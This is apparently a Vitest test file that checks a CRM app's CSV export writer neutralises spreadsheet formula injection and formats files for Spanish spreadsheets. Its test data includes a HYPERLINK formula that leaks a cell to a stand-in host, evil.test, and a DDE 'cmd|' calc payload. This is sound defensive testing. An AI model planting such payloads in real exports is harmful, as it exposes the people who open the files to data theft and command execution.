import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvCellText, csvDocument, csvNumber, neutraliseFormula } from "../../../resources/kit/csv";
import { getResource } from "../../../resources/registry";
import { csvCell } from "../../../resources/kit/csv-cell";
import type { ResourceDef } from "../../../resources/kit/types";

// The one CSV writer (resources/kit/csv.ts), which the API's exports and the browser's share:
// no cell a spreadsheet would run as a formula (OWASP "CSV Injection"), the app's numbers kept.

const FORMULAS = [
  '=HYPERLINK("http://evil.test/?leak="&A2,"Ver")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
];
const t = (key: string) => key;

/** The cells of a written file, as a spreadsheet reads them (BOM dropped). */
const cellsOf = (text: string) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";", newline: "\r\n" }).data;

describe("the CSV writer", () => {
  it.each(FORMULAS)("neutralises text that starts a formula: %j", (formula) => {
    expect(neutraliseFormula(formula)).toBe(`'${formula}`);
    expect(csvCellText(formula)).toBe(`'${formula}`);
    // Read back, the cell is the text with its apostrophe: quoted, its tab, CR and quotes kept.
    expect(cellsOf(csvDocument(["a", "b"], [[formula, "x"]]))[1]).toEqual([`'${formula}`, "x"]);
  });

  it("leaves other text alone, including formula characters further in", () => {
    for (const text of ["Ana", "a=b", " =1+1", "'=1+1", "1-2", "2026-01-31", "user@example.test", ""])
      expect(csvCellText(text)).toBe(text);
  });

  it("keeps the app's numbers and dates as numbers, and neutralises text passed off as one", () => {
    expect(csvCellText(-12.5)).toBe("-12.5");
    expect(csvCellText(csvNumber("-12,50"))).toBe("-12,50");
    expect(csvCellText(csvNumber("-1.234,50"))).toBe("-1.234,50");
    expect(csvCellText(csvNumber("+34"))).toBe("+34");
    expect(csvCellText(csvNumber("-1+cmd|' /C calc'!A0"))).toBe("'-1+cmd|' /C calc'!A0");
    expect(csvCellText(new Date("2026-01-31T10:00:00.000Z"))).toBe("2026-01-31T10:00:00.000Z");
    expect(csvCellText(Number.NaN)).toBe("");
    expect(csvCellText(null)).toBe("");
    const file = csvDocument(["amount", "n"], [[csvNumber("-12,50"), -3]]);
    expect(file).toBe("\uFEFFamount;n\r\n-12,50;-3");
  });

  it("writes a file a Spanish spreadsheet opens: BOM, semicolons, CRLF, quotes where needed", () => {
    const file = csvDocument(
      ["Nombre", "Nota"],
      [
        ["Pérez; Ana", 'dice "hola"'],
        ["Luis", null],
      ],
    );
    expect(file).toBe('\uFEFFNombre;Nota\r\n"Pérez; Ana";"dice ""hola"""\r\nLuis;');
  });

  it("neutralises a header too", () => {
    expect(cellsOf(csvDocument(["=cmd"], []))[0]).toEqual(["'=cmd"]);
  });
});

/** A list export's file of these columns, as api/crud/list-export.ts writes it. */
const listCsv = (def: ResourceDef, columns: string[], rows: Record<string, unknown>[], tr: typeof t, lang = "es") =>
  csvDocument(
    columns.map((name) => tr(`resources:${def.name}.fields.${name}`)),
    rows.map((row) => columns.map((name) => csvCell(def, name, row[name], tr, lang))),
  );

describe("a list export's cells", () => {
  it("writes through the same writer: text neutralised, amounts kept", () => {
    const leads = getResource("leads")!;
    const file = listCsv(leads, ["name", "estimated_value"], [{ name: "=1+1", estimated_value: -150000 }], t, "es");
    expect(cellsOf(file)).toEqual([
      ["resources:leads.fields.name", "resources:leads.fields.estimated_value"],
      ["'=1+1", "-1500,00"],
    ]);
  });

  it("neutralises tags and lists a user typed", () => {
    const tickets = getResource("tickets")!;
    const file = listCsv(tickets, ["tags"], [{ tags: ["@cmd", "vip"] }], t);
    expect(cellsOf(file)[1]).toEqual(["'@cmd, vip"]);
  });
});
